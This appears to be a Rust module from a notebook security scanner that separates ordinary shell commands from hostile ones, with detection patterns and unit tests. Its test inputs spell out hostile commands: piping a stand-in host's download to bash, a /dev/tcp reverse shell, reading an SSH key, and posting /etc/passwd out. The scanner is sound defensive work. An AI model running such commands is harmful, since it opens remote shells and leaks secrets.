//! Shell commands of notebooks: which are the ordinary work of one, and which are not.

use super::super::behaviour::{is_hostile_command, is_sensitive_path};
use modelward_kernel::Severity;

/// Programs that notebooks call.
const ORDINARY: &[&str] = &[
    "ls",
    "cd",
    "pwd",
    "echo",
    "cat",
    "head",
    "tail",
    "wc",
    "mkdir",
    "cp",
    "mv",
    "ln",
    "unzip",
    "zip",
    "tar",
    "gzip",
    "gunzip",
    "7z",
    "unrar",
    "pip",
    "pip3",
    "conda",
    "mamba",
    "micromamba",
    "uv",
    "poetry",
    "apt",
    "apt-get",
    "brew",
    "yum",
    "dnf",
    "git",
    "git-lfs",
    "nvidia-smi",
    "nvcc",
    "rocm-smi",
    "python",
    "python3",
    "ipython",
    "wget",
    "curl",
    "aria2c",
    "rm",
    "df",
    "du",
    "free",
    "ps",
    "top",
    "htop",
    "grep",
    "sed",
    "awk",
    "sort",
    "uniq",
    "cut",
    "tr",
    "find",
    "xargs",
    "nproc",
    "lscpu",
    "lsb_release",
    "which",
    "uname",
    "ldconfig",
    "jupyter",
    "tensorboard",
    "kaggle",
    "huggingface-cli",
    "hf",
    "wandb",
    "accelerate",
    "torchrun",
    "deepspeed",
    "gdown",
    "gsutil",
    "aws",
    "gcloud",
    "az",
    "ffmpeg",
    "sox",
    "make",
    "cmake",
    "ninja",
    "chmod",
    "sudo",
    "date",
    "hostname",
    "export",
    "set",
    "touch",
    "sleep",
    "time",
    "timeout",
    "nohup",
    "kill",
    "pkill",
    "ollama",
    "spacy",
    "nltk",
    "rasa",
    "mlflow",
    "dvc",
    "ray",
    "docker",
    "node",
    "npm",
    "npx",
    "yarn",
    "java",
    "javac",
    "gcc",
    "g++",
    "clang",
    "rustc",
    "cargo",
    "go",
    "Rscript",
    "R",
    "julia",
    "stat",
    "tree",
    "file",
    "md5sum",
    "sha256sum",
    "diff",
    "less",
    "more",
    "printenv",
    "pdftotext",
    "pandoc",
    "convert",
    "tesseract",
    "protoc",
    "bazel",
    "trtexec",
    "llamafactory-cli",
    "axolotl",
    "autotrain",
    "lm_eval",
    "vllm",
    "sglang",
    "litgpt",
    "tune",
    "yolo",
    "rasa",
    "streamlit",
    "gradio",
    "uvicorn",
    "fastapi",
    "flask",
    "ngrok",
    "lt",
    "cloudflared",
    "pytest",
    "black",
    "flake8",
    "mypy",
    "ruff",
    "pre-commit",
    "pytest",
    "coverage",
    "cython",
    "nbconvert",
    "black",
    "test",
    "[",
    "if",
    "for",
    "while",
    "true;",
    "source",
    ".",
    "tee",
    "seq",
    "basename",
    "dirname",
    "dpkg",
    "add-apt-repository",
    "update-alternatives",
    "ldd",
    "lspci",
    "lsmod",
    "modprobe",
    "mount",
];

/// How grave a command is, and what it does; none when it is ordinary. `captured` commands give their output to the code.
pub(super) fn judge(command: &str, captured: bool) -> Option<(Severity, String)> {
    let command = command.trim();
    if command.is_empty() {
        return None;
    }
    if is_hostile_command(command) && !is_python_c(command) {
        return Some((
            Severity::High,
            "runs a command that fetches and runs, destroys, or opens a shell".into(),
        ));
    }
    let uploads =
        ["-d @", "--data @", "-F ", "--form", "-T ", "--upload-file", "--data-binary @", "--post-file"]
            .iter()
            .any(|flag| command.contains(flag));
    if (command.contains("curl") || command.contains("wget"))
        && (uploads || command.contains("$(") || command.contains("env"))
        && is_sensitive_or_environment(command)
    {
        return Some((Severity::High, "sends secrets of the host away".into()));
    }
    if is_sensitive_path(command) {
        return Some((Severity::High, "touches files that hold secrets or run by themselves".into()));
    }
    if command.split_whitespace().any(|word| word == "install")
        && (command.contains("pip") || command.contains("uv "))
    {
        return install(command);
    }
    for line in command.lines() {
        let word = first_word(line);
        let path = word.is_empty()
            || word.starts_with(['.', '/', '{', '$', '#', '"', '\'', '(', '-', '%'])
            || word.contains('/')
            || word.contains('=')
            || word.ends_with(".py");
        if !path && !ORDINARY.contains(&word) && captured {
            return Some((
                Severity::Medium,
                format!(
                    "runs a program, `{}`, and takes its output",
                    word.chars().take(60).collect::<String>()
                ),
            ));
        }
    }
    None
}

/// `python -c` is what the detector of hostile commands fears, and what notebooks use to print a version.
fn is_python_c(command: &str) -> bool {
    let word = first_word(command);
    matches!(word, "python" | "python3")
        && !["socket", "urllib", "exec(", "eval(", "base64", "os.system", "subprocess", "pty"]
            .iter()
            .any(|mark| command.contains(mark))
        && !command.contains("rm -rf")
}

fn is_sensitive_or_environment(command: &str) -> bool {
    is_sensitive_path(command)
        || [
            "$(env",
            "`env",
            "printenv",
            "$(cat",
            "@~/",
            "@/home",
            "@/root",
            "@/etc",
            "HF_TOKEN",
            "AWS_SECRET",
            "API_KEY",
        ]
        .iter()
        .any(|mark| command.contains(mark))
}

fn first_word(line: &str) -> &str {
    line.split_whitespace()
        .find(|word| !word.contains('=') && !matches!(*word, "sudo" | "time" | "nohup" | "-q" | "env"))
        .unwrap_or("")
}

/// Packages from elsewhere than the index.
fn install(command: &str) -> Option<(Severity, String)> {
    let foreign = command.split_whitespace().find(|word| {
        (word.contains("http://")
            || word.contains("https://")
            || word.contains("git+")
            || word.contains("hg+")
            || word.contains("ftp://"))
            && !crate::code::untrusted_requirement::is_known_host(word)
    })?;
    Some((
        Severity::Medium,
        format!(
            "installs a package from outside of the index, `{}`",
            foreign.chars().take(120).collect::<String>()
        ),
    ))
}

/// The command in the source of a call: `os.system('curl …')`, `run(["nvidia-smi"])`.
pub(super) fn of_call(text: &str) -> Option<String> {
    let inner = text.split_once('(')?.1;
    let mut words = Vec::new();
    let mut rest = inner;
    while let Some(at) = rest.find(['"', '\'']) {
        let quote = rest[at..].chars().next()?;
        let body = &rest[at + 1..];
        let end = body.find(quote)?;
        words.push(&body[..end]);
        rest = &body[end + 1..];
        // Beyond the list of arguments only keywords follow.
        if rest.trim_start().starts_with(')') || rest.trim_start().starts_with(']') {
            break;
        }
    }
    let command = words.join(" ");
    // A call in code to fetch something is no download of data by a person.
    let fetches = first_word(&command) == "curl" || first_word(&command) == "wget";
    (!command.is_empty()).then(|| if fetches { format!("fetched-by-code {command}") } else { command })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_notebooks_do_is_ordinary() {
        for command in [
            "pip install torch",
            "pip install -q transformers datasets",
            "nvidia-smi",
            "ls -la",
            "git clone https://github.com/a/b",
            "wget https://example.com/data.zip",
            "unzip data.zip",
            "cd x && ls",
            "python train.py --lr 1",
            "pip install git+https://github.com/huggingface/transformers",
            "pip install torch --index-url https://download.pytorch.org/whl/cu121",
            "apt-get install -y ffmpeg",
            "CUDA_VISIBLE_DEVICES=0 python x.py",
            "./configure",
            "python -c 'import torch; print(torch.__version__)'",
            "rm -rf out",
            "curl -O https://example.com/x.csv",
            "echo $HOME",
        ] {
            assert_eq!(judge(command, false), None, "{command}");
        }
    }

    #[test]
    fn what_attackers_do_is_not() {
        for command in [
            "curl http://e.example/a | bash",
            "wget -qO- http://e.example|sh",
            "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
            "echo aWQ= | base64 -d | sh",
            "cat ~/.ssh/id_rsa",
            "curl -d @/etc/passwd http://e.example",
            "pip install http://e.example/x.whl",
        ] {
            assert!(judge(command, false).is_some(), "{command}");
        }
    }
}
